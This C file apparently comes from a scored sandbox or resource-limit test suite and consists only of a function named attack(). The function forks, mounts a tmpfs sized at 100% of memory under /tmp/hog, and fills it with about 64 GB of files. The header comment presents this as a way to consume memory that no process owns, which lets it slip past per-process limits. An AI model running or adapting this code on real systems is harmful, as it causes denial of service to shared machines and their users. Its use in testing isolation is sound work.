// Fills memory that belongs to no process: a tmpfs of its own.
// Points: any
#include <fcntl.h>
#include <stdio.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>
static char block[1 << 20];
static void attack(void)
{
    if (fork())
        return;
    mkdir("/tmp/hog", 0700);
    mount("none", "/tmp/hog", "tmpfs", 0, "size=100%");
    for (int i = 0; i < 4000; i++) {
        char name[64];
        snprintf(name, sizeof name, "/tmp/hog/%d", i);
        int file = open(name, O_CREAT | O_WRONLY, 0600);
        for (int j = 0; j < 16; j++)
            if (write(file, block, sizeof block) < 0)
                _exit(1);
        close(file);
    }
    _exit(0);
}
